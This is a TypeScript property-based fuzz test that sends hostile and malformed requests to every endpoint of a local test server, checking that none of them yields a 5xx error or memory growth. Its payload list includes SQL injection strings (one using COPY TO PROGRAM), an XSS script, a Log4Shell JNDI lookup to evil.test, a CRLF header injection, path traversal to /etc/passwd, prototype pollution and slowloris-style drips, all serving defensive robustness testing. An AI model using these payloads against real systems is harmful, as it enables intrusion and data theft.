import { connect } from 'node:net'
import fc from 'fast-check'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { startProcess, TestClient, type TestProcess } from '../platform/testing/process.ts'
import { testSchema } from '../platform/testing/database.ts'
import { longOrShort } from '../platform/testing/size.ts'

const REQUESTS = longOrShort(10_000, 3_000)
const CALLERS = 8
/** A process that has answered this many has taken what memory it works with; from then on it may not take more. */
const WARM_REQUESTS = REQUESTS * 0.4
const GROWTH_BYTES_MAX = 150 * 1024 * 1024
type Schema = {
  readonly [key: string]: unknown
  readonly properties?: Record<string, Schema>
  readonly required?: readonly string[]
  readonly enum?: readonly unknown[]
  readonly anyOf?: readonly Schema[]
  readonly items?: Schema
  readonly additionalProperties?: Schema
}
interface Operation {
  readonly method: string
  readonly path: string
  readonly parameters: readonly {
    readonly name: string
    readonly in: string
    readonly schema: Schema
  }[]
  readonly body: Schema | 'lines' | undefined
}
let server: TestProcess
let client: TestClient
let operations: readonly Operation[]

beforeAll(async () => {
  const { url, schema } = testSchema()
  server = await startProcess({ DATABASE_URL: url, DATABASE_SCHEMA: schema })
  client = new TestClient(server.url)
  await client.login()
  await client.call('POST', '/api/studios', {
    studio: 'north',
    name: 'North',
    timezone: 'Europe/Bucharest',
  })
  operations = await readOperations()
})
afterAll(() => server?.stop())

/** Every call as the server itself describes it, but for the one that would end the login. */
async function readOperations(): Promise<readonly Operation[]> {
  const document = await client.call<{
    paths: Record<
      string,
      Record<
        string,
        {
          parameters: Operation['parameters']
          requestBody?: { content: Record<string, { schema: { $ref?: string } }> }
        }
      >
    >
    components: { schemas: Record<string, Schema> }
  }>('GET', '/openapi.json')
  const bodyOf = (content: Record<string, { schema: { $ref?: string } }> | undefined) =>
    content &&
    (content['application/json']
      ? document.components.schemas[
          content['application/json'].schema.$ref?.split('/').at(-1) ?? ''
        ]
      : ('lines' as const))
  return Object.entries(document.paths).flatMap(([path, methods]) =>
    Object.entries(methods)
      .filter(() => path !== '/logout')
      .map(([method, { parameters, requestBody }]) => ({
        method: method.toUpperCase(),
        path,
        parameters,
        body: bodyOf(requestBody?.content),
      })),
  )
}

const evil: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    '',
    '\u0000',
    'a\u0000b',
    '\ud800',
    '__proto__',
    'constructor',
    "'; drop table events; --",
    "' or '1'='1",
    '" union select * from vault --',
    "$$; copy events to program 'id'; $$",
    '<script>alert(1)</script>',
    '{{7*7}}',
    '${jndi:ldap://evil.test/x}',
    '\r\nset-cookie: callboard_session=x',
    '(a+)+$',
    '../../etc/passwd',
    '🦜'.repeat(40),
    'x'.repeat(3000),
    -1,
    0,
    1e308,
    -0.5,
    2 ** 53,
    2 ** 63,
    null,
    true,
    [],
    {},
    [[]],
    '9'.repeat(15),
    '+275760-09-13T00:00:00Z',
    '0000-01-01',
    '9999-12-31',
    '2026-02-30',
    '2026-03-29T03:30:00+14:00',
    '-271821-04-20',
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.double(),
  fc.integer(),
)
const common: fc.Arbitrary<unknown> = fc.constantFrom<unknown>(
  'owner',
  'north',
  'ana',
  'ctb',
  'obs-1',
  'polly',
  'Owner-1234!',
  'a@example.test',
  '2026-11-01',
  '2026-11-20T08:00:00Z',
  'Europe/Bucharest',
  'correct it',
  1,
  2,
  12,
)
/** Mostly what the schema asks for, so that requests come deep; now and then something else. */
function valueFor(schema: Schema): fc.Arbitrary<unknown> {
  const good = goodFor(schema)
  return fc.oneof(
    { weight: 6, arbitrary: good },
    { weight: 1, arbitrary: evil },
    { weight: 1, arbitrary: common },
  )
}
function goodFor(schema: Schema): fc.Arbitrary<unknown> {
  if (schema.enum) return fc.constantFrom(...schema.enum)
  if ('const' in schema) return fc.constant(schema['const'])
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map(valueFor))
  if (schema.properties)
    return fc.record(
      Object.fromEntries(
        Object.entries(schema.properties).map(([name, one]) => [name, valueFor(one)]),
      ),
      {
        requiredKeys: [...(schema.required ?? [])],
      },
    )
  if (schema.items) return fc.array(valueFor(schema.items), { maxLength: 4 })
  if (schema.additionalProperties)
    return fc.dictionary(
      fc.oneof(
        fc.constantFrom('ctb', 'mfc', '__proto__', 'constructor'),
        fc.string({ maxLength: 10 }),
      ),
      valueFor(schema.additionalProperties),
      { maxKeys: 4 },
    )
  if (schema['format'] === 'date')
    return fc
      .date({ noInvalidDate: true, min: new Date('0001-01-01'), max: new Date('9999-12-30') })
      .map((date) => date.toISOString().slice(0, 10))
  if (schema['format'] === 'date-time')
    return fc
      .date({ noInvalidDate: true, min: new Date('0001-01-01'), max: new Date('9999-12-30') })
      .map((date) => date.toISOString())
  if (schema['type'] === 'integer' || schema['type'] === 'number')
    return fc.oneof(fc.integer({ min: 0, max: 20 }), fc.integer(), fc.maxSafeInteger())
  if (schema['type'] === 'boolean') return fc.boolean()
  return fc.oneof(common, fc.string({ maxLength: 20 }))
}
const line = fc.record({
  observer: valueFor({}),
  site: valueFor({ enum: ['ctb', 'mfc'] }),
  account: valueFor({}),
  status: valueFor({ enum: [0, 1, 2, 3, 11, 12, 13] }),
  observed_at: valueFor({ format: 'date-time' }),
  seq: valueFor({ type: 'number' }),
  user: valueFor({}),
  name: valueFor({}),
  surname: valueFor({}),
  email: valueFor({ enum: ['a@example.test'] }),
  tipCont: valueFor({ enum: ['Model', 'Manager'] }),
  studio: valueFor({ enum: ['north'] }),
  conturi: valueFor({ additionalProperties: { properties: { username: {} } } }),
})
const lines = fc
  .array(
    fc.oneof(
      { weight: 6, arbitrary: line.map((value) => JSON.stringify(value)) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
      {
        weight: 1,
        arbitrary: fc.constantFrom(
          '',
          '{',
          '[]',
          'null',
          '{"observer":"a\\u0000"}',
          '['.repeat(5000),
        ),
      },
    ),
    { maxLength: 6 },
  )
  .map((all) => all.join('\n'))

/** The first member of an object, written twice with different values: readers that take the first and those that take the last must not differ here. */
const doubled = (text: string): string => text.replace(/^\{("(?:[^"\\]|\\.)*":)/, '{$1"first",$1')
/** The same body as bytes that say something else. */
const manglers: readonly ((text: string) => Uint8Array)[] = [
  (text) => Buffer.from(text, 'latin1'),
  (text) => Buffer.from(text, 'utf16le'),
  (text) => Buffer.from(text).subarray(0, text.length / 2),
  (text) => Buffer.concat([Buffer.from(text), Buffer.from([0xff, 0xc0, 0x80])]),
  (text) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]),
  (text) => Buffer.from(doubled(text)),
  (text) =>
    Buffer.from(
      text.replace('{', '{"__proto__":{"owner":true},"constructor":{"prototype":{"owner":true}},'),
    ),
  (text) => Buffer.from(text.replaceAll(/:(-?\d+|true|false|null)/g, ':1e999')),
  (text) => Buffer.from(text.replaceAll(/:(-?\d+|true|false|null)/g, `:${'9'.repeat(4000)}`)),
  (text) => Buffer.from(text.replaceAll(/:"[^"]*"/g, `:${'['.repeat(3000)}${']'.repeat(3000)}`)),
  (text) => Buffer.from(`${'{"a":'.repeat(20_000)}${text}${'}'.repeat(20_000)}`),
  (text) => Buffer.from(`${'['.repeat(200_000)}${text}`),
  (text) => Buffer.from(text.replaceAll('"', '\\u0000"')),
]
const request = () =>
  fc.constantFrom(...operations).chain(({ method, path, parameters, body }) =>
    fc.record({
      method: fc.constant(method),
      path: fc.constant(path),
      values: fc.tuple(...parameters.map(({ schema }) => valueFor(schema))),
      names: fc.constant(parameters),
      body:
        body === undefined
          ? fc.constant(undefined)
          : body === 'lines'
            ? fc.oneof(lines, fc.uint8Array({ maxLength: 100 }))
            : valueFor(body),
      mangle: fc
        .option(fc.constantFrom(...manglers), { nil: undefined, freq: 1 })
        .chain((mangle) => fc.constantFrom(mangle, undefined, undefined)),
      after: fc.option(fc.constantFrom('', 'x', '0000000000000000001', '9'.repeat(19)), {
        nil: undefined,
        freq: 20,
      }),
    }),
  )
type Request = ReturnType<typeof request> extends fc.Arbitrary<infer R> ? R : never
const escaped = (value: unknown): string =>
  encodeURIComponent(
    (typeof value === 'string' ? value : (JSON.stringify(value) ?? '')).toWellFormed(),
  )
/** What is mangled is sent as JSON where JSON is taken. */
function sentBody({ body, mangle }: Request): {
  readonly body: unknown
  readonly headers: Readonly<Record<string, string>>
} {
  if (!mangle || body === undefined || body instanceof Uint8Array) return { body, headers: {} }
  return typeof body === 'string'
    ? { body: mangle(body), headers: {} }
    : { body: mangle(JSON.stringify(body)), headers: { 'content-type': 'application/json' } }
}
async function statusOf(one: Request): Promise<{ status: number; text: string }> {
  const { method, path, values, names, after } = one
  const { body, headers } = sentBody(one)
  const given = names.map(({ name, in: where }, i) => ({ name, where, value: escaped(values[i]) }))
  const address = given
    .filter(({ where }) => where === 'path')
    .reduce((whole, { name, value }) => whole.replace(`{${name}}`, value || '-'), path)
  const query = given
    .filter(({ where }) => where === 'query')
    .map(({ name, value }) => `${name}=${value}`)
    .join('&')
  const response = await client.raw(method, `${address}?${query}`, body, {
    'x-after-position': after ?? '',
    ...headers,
  })
  return { status: response.status, text: await response.text() }
}

async function memory(): Promise<number> {
  const figures = await (await client.raw('GET', '/metrics')).text()
  return Number(/^process_resident_memory_bytes (\S+)$/m.exec(figures)?.[1])
}
/** Never ends its body, or takes its time: a byte now and then. Resolves with the first line of what it is answered, or with how it was cut off. */
function slowly(path: string, type: string): Promise<string> {
  const { port } = new URL(server.url)
  const socket = connect(Number(port), '127.0.0.1')
  socket.write(
    `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: ${type}\r\ncontent-length: 1000\r\n\r\n`,
  )
  const drip = setInterval(() => socket.write('{'), 200)
  return new Promise<string>((resolve) => {
    socket.once('data', (data: Buffer) => resolve(data.toString().split('\r\n')[0] ?? ''))
    socket.on('error', (error) => resolve(error.message))
    socket.once('close', () => resolve('closed'))
  }).finally(() => {
    clearInterval(drip)
    socket.destroy()
  })
}

test('thousands of hostile requests to every call that there is, among bodies that never end: each is answered, never with a 5xx, and memory does not grow', async () => {
  const statuses: Record<number, number> = {}
  const failures = new Map<string, unknown>()
  const all = fc.sample(request(), REQUESTS)
  let warm = 0
  const slow = Array.from({ length: 40 }, (_, i) =>
    slowly(
      i % 2 === 0 ? '/login' : '/ingest/v1/observations',
      i % 2 === 0 ? 'application/json' : 'text/plain',
    ),
  )
  await Promise.all(
    Array.from({ length: CALLERS }, async () => {
      for (let one = all.pop(); one; one = all.pop()) {
        const { status, text } = await statusOf(one)
        statuses[status] = (statuses[status] ?? 0) + 1
        if (status >= 500)
          failures.set(`${one.method} ${one.path}`, {
            status,
            text,
            values: one.values,
            body: one.body,
          })
        if (all.length === REQUESTS - WARM_REQUESTS) warm = await memory()
      }
    }),
  )
  expect([...failures], server.output().slice(0, 6000)).toEqual([])
  expect(statuses[200], JSON.stringify(statuses)).toBeGreaterThan(REQUESTS / 20)
  expect((await memory()) - warm, `${warm} bytes after ${WARM_REQUESTS} requests`).toBeLessThan(
    GROWTH_BYTES_MAX,
  )
  // Refused at once (nobody is logged in there), or cut off when the time for a request is over.
  for (const answer of await Promise.all(slow))
    expect(answer).toMatch(/^HTTP\/1\.1 4\d\d |closed|ECONNRESET|EPIPE/)
  expect(await client.call('GET', '/getLocalStudios')).toContainEqual(
    expect.objectContaining({ studio: 'north' }),
  )
})
